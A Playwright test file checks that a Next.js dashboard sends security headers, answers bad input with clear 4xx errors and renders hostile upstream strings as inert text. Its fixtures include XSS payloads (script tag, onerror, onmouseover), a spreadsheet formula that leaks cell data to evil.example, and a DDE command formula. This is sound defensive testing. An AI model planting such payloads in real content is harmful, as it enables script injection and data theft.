import { expect, test } from "@playwright/test";

import { startFakeUpstream } from "../support/fake-upstream";
import { startNextServer, type RunningServer } from "../support/next-server";
import { TEST_API_KEY } from "../support/test-key";
import { live, storeDir } from "./servers";

// Security headers, bad input answered with 4xx (never 500), and hostile upstream strings.

test("every response carries the security headers; framing is denied without allowed origins", async ({
  request,
}) => {
  for (const route of [
    "/",
    "/tags/code%3Adebugging",
    "/api/classifications",
    "/api/status",
    "/tags/nope",
  ]) {
    const response = await request.get(`${live.url}${route}`);
    const headers = response.headers();
    const csp = headers["content-security-policy"] ?? "";
    expect(csp, route).toContain("default-src 'self'");
    expect(csp, route).toContain("frame-ancestors 'none'");
    expect(csp, route).not.toContain("unsafe-eval");
    expect(headers["x-content-type-options"], route).toBe("nosniff");
    expect(headers["referrer-policy"], route).toBe("strict-origin-when-cross-origin");
    expect(headers["x-frame-options"], route).toBe("DENY");
  }
});

test("answers Next gives itself carry the security headers too: redirects, 404s, image errors", async ({
  request,
}) => {
  const cases = [
    { path: "/models/", status: 308 },
    { path: "/favicon.ico", status: 404 },
    { path: "/_next/static/nope.js", status: 404 },
    { path: "/_next/image?url=x", status: 400 },
  ];
  for (const { path, status } of cases) {
    const response = await request.get(`${live.url}${path}`, { maxRedirects: 0 });
    expect(response.status(), path).toBe(status);
    expect(response.headers()["content-security-policy"], path).toContain("default-src 'self'");
    expect(response.headers()["x-content-type-options"], path).toBe("nosniff");
  }
});

test("methods the app has no use for are a 405, a range no file has a 416, oversized headers a 431", async ({
  request,
}) => {
  for (const method of ["POST", "PUT", "DELETE", "TRACE", "OPTIONS"]) {
    const response = await request.fetch(`${live.url}/`, { method });
    expect(response.status(), method).toBe(405);
    expect(response.headers().allow, method).toBe("GET, HEAD");
    expect(response.headers()["content-security-policy"], method).toContain("default-src 'self'");
  }
  const head = await request.head(`${live.url}/`);
  expect(head.status()).toBe(200);

  const inverted = await request.get(`${live.url}/robots.txt`, { headers: { Range: "bytes=5-1" } });
  expect(inverted.status()).toBe(416);
  expect(inverted.headers()["content-security-policy"]).toContain("default-src 'self'");
  const partial = await request.get(`${live.url}/robots.txt`, { headers: { Range: "bytes=0-4" } });
  expect(partial.status()).toBe(206);
  expect((await partial.body()).length).toBe(5);

  // Node refuses these before any handler runs; its answer gets the headers all the same.
  const oversized = await fetch(`${live.url}/`, { headers: { "X-Big": "a".repeat(20_000) } });
  expect(oversized.status).toBe(431);
  expect(oversized.headers.get("content-security-policy")).toContain("default-src 'self'");
});

test("a client's own x-task-share-* headers never reach the app, whatever the method", async ({
  request,
}) => {
  const spoofed = {
    "x-task-share-theme": "dark",
    "x-task-share-requested-url": "/?as_of=1999-01-01",
    "x-task-share-render": "anything",
  };
  for (const method of ["GET", "HEAD", "POST", "PUT"]) {
    const response = await request.fetch(`${live.url}/?metric=tokens`, {
      method,
      headers: spoofed,
    });
    expect(response.status(), method).toBeLessThan(500);
    const body = await response.text();
    expect(body, method).not.toContain('data-theme="dark"');
    expect(body, method).not.toContain("1999-01-01");
  }
  const api = await request.post(`${live.url}/api/status`, { headers: spoofed });
  expect(api.status()).toBe(405);
});

test("bad input gets a clear 4xx, never a 500", async ({ request }) => {
  const cases: Array<{ path: string; method?: string; status: number; text: string }> = [
    { path: "/tags/code%3Anope", status: 404, text: "Page not found" },
    { path: "/tags/%E0%A4%A", status: 400, text: "malformed percent-encoding" },
    { path: `/tags/${"a".repeat(2_000)}`, status: 414, text: "The address is too long." },
    {
      path: "/api/classifications?foo=1",
      status: 400,
      text: "Unknown query parameter foo (accepted: as_of, format).",
    },
    {
      path: "/api/status?x=1&x=2",
      status: 400,
      text: "Unknown query parameter x (this route takes none).",
    },
    {
      path: "/api/classifications",
      method: "POST",
      status: 405,
      text: "POST is not allowed here; use GET.",
    },
    {
      path: "/api/classifications",
      method: "DELETE",
      status: 405,
      text: "DELETE is not allowed here; use GET.",
    },
    { path: "/api/nothing-here", status: 404, text: "" },
  ];
  for (const { path, method = "GET", status, text } of cases) {
    const response = await request.fetch(`${live.url}${path}`, { method });
    expect(response.status(), `${method} ${path}`).toBe(status);
    expect(await response.text(), `${method} ${path}`).toContain(text);
  }
});

test.describe("hostile upstream strings", () => {
  test.describe.configure({ timeout: 90_000 });
  let upstream: Awaited<ReturnType<typeof startFakeUpstream>> | undefined;
  let server: RunningServer | undefined;

  test.beforeAll(async () => {
    // Starting a server of its own takes longer than the default hook timeout on a busy machine.
    test.setTimeout(90_000);
    upstream = await startFakeUpstream("upstream-hostile.json");
    server = await startNextServer("hostile", {
      OPENROUTER_API_KEY: TEST_API_KEY,
      OPENROUTER_BASE_URL: upstream.baseUrl,
      DATA_DIR: storeDir("hostile"),
    });
  });

  test.afterAll(async () => {
    await server?.stop();
    await upstream?.close();
  });

  test("render as inert text and do not break the layout", async ({ page }) => {
    const dialogs: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.setViewportSize({ width: 390, height: 844 });
    const url = server?.url ?? "";
    await page.goto(url);
    await expect(page.locator('tr[data-tag="code:general_impl"] th a')).toHaveText(
      '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">Code Generation',
    );
    await expect(page.locator('tr[data-tag="code:debugging"] th a')).toHaveText(
      '=HYPERLINK("https://evil.example/?leak="&A1,"Debugging")',
    );
    await expect(page.locator('tr[data-tag="translation"] th a')).toContainText("ترجمة");
    await expect(page.locator("img[src=x]")).toHaveCount(0);
    const overflow = await page.evaluate(
      () => document.documentElement.scrollWidth - window.innerWidth,
    );
    expect(overflow).toBeLessThanOrEqual(0);

    await page.goto(`${url}/tags/code%3Ageneral_impl`);
    const rows = page.getByTestId("model-table").locator("tbody th");
    await expect(rows.nth(0)).toHaveText(
      'evil/<b onmouseover="window.__pwned=3">bold</b>-20260101',
    );
    await expect(rows.nth(1)).toHaveText('=cmd|" /C calc"!A0');
    await expect(rows.nth(2)).toHaveText("weird/name with spaces %2F and ü 模型-20260101");
    await expect(page.locator("b")).toHaveCount(0);
    expect(
      await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned),
    ).toBeUndefined();
    expect(dialogs).toEqual([]);
    const tagOverflow = await page.evaluate(
      () => document.documentElement.scrollWidth - window.innerWidth,
    );
    expect(tagOverflow).toBeLessThanOrEqual(0);
  });
});
